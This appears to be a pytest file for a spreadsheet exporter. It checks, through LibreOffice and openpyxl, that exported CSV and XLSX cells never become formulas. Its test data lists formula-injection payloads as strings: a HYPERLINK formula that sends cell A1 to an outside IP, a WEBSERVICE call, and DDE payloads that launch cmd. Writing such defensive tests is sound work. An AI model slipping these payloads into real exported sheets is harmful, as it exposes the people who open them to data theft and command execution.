"""What goes out as a sheet is opened in LibreOffice, and no cell of it is a formula."""

import csv
import io
import shutil
import subprocess
import zipfile
from datetime import date
from xml.etree import ElementTree

import openpyxl
import pytest

from generator.errors import OutputNotWritable
from generator.exchange.sheet_safe import csv_bytes, safe_cell, xlsx_bytes

FORMULA = "1+1"
STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u200b=",
    "\ufeff=",
    "\u00a0=",
    "'=",
    '"=',
    "=\t",
    "|",
    "%",
    "＝",
]
CELLS = [f"{start}{FORMULA}" for start in STARTS] + [
    '=HYPERLINK("http://203.0.113.9/?a="&A1,"more")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=WEBSERVICE("http://203.0.113.9/")',
    "a;=1+1",
    'a",=1+1,"',
    "a\r\n=1+1",
    'DDE("cmd";"/C calc";"x")',
]


def opened_in_libreoffice(tmp_path, name, data):
    """The cells as LibreOffice reads them: (formula or None, text), from its own flat XML."""
    if shutil.which("soffice") is None:
        pytest.skip("needs LibreOffice")
    (tmp_path / name).write_bytes(data)
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{tmp_path}/profile",
            *("--headless", "--norestore", "--convert-to", "fods", "--outdir", str(tmp_path), str(tmp_path / name)),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    if not (tmp_path / name).with_suffix(".fods").exists():
        pytest.skip("needs LibreOffice Calc")
    table = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
    office = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
    tree = ElementTree.parse((tmp_path / name).with_suffix(".fods"))
    cells = []
    for cell in tree.iter(f"{table}table-cell"):
        words = "\n".join("".join(p.itertext()) for p in cell if p.tag.endswith("}p"))
        kind = cell.get(f"{office}value-type")
        if kind or words:
            cells.append((cell.get(f"{table}formula"), kind, words))
    return cells


@pytest.mark.office
def test_libreoffice_runs_an_unguarded_csv_so_that_this_test_can_fail(tmp_path):
    cells = opened_in_libreoffice(tmp_path, "bad.csv", b'"=1+1"\r\n')
    assert cells[0][0] == "of:=1+1"


@pytest.mark.office
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_libreoffice_finds_no_formula_in_what_we_export(tmp_path, kind):
    rows = [[cell, "after"] for cell in CELLS]
    data = csv_bytes(rows) if kind == "csv" else xlsx_bytes(rows)
    cells = opened_in_libreoffice(tmp_path, f"out.{kind}", data)
    assert [formula for formula, _, _ in cells if formula] == []
    assert all(value_type == "string" for _, value_type, _ in cells)
    assert sum(words == "after" for _, _, words in cells) == len(CELLS)


def test_a_csv_gives_back_every_text_with_at_most_an_apostrophe_more():
    back = list(csv.reader(io.StringIO(csv_bytes([CELLS]).decode("utf-8-sig"), newline="")))
    assert len(back) == 1 and len(back[0]) == len(CELLS)
    for given, read in zip(CELLS, back[0], strict=True):
        assert read in (given, f"'{given}")


def test_an_xlsx_gives_back_every_text_to_the_letter_and_no_formula():
    plain = [cell for cell in CELLS if "\r" not in cell]
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([plain]))).active
    assert [cell.value for cell in sheet[1]] == plain
    assert all(cell.data_type == "s" for cell in sheet[1])
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes([plain]))) as package:
        assert all(
            b"<f>" not in package.read(name) and b"External" not in package.read(name) for name in package.namelist()
        )


def test_numbers_and_dates_stay_what_they_are():
    assert [safe_cell(value) for value in (-5, "-5", "-5.25", 0, 1.5, True, None, date(2026, 11, 3), "5-6", "a-b")] == [
        "-5", "-5", "-5.25", "0", "1.5", "TRUE", "", "2026-11-03", "5-6", "a-b",
    ]  # fmt: skip
    assert safe_cell("+1 518 555 0110") == "'+1 518 555 0110"
    row = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([[-5, date(2026, 11, 3), True]]))).active[1]
    assert [cell.data_type for cell in row] == ["n", "d", "b"]


def test_signs_that_xml_cannot_hold_do_not_break_the_sheet():
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([["a\x00b\x1fc"]]))).active
    assert sheet["A1"].value == "a\ufffdb\ufffdc"
    with pytest.raises(OutputNotWritable):
        xlsx_bytes([["x" * 40_000]])
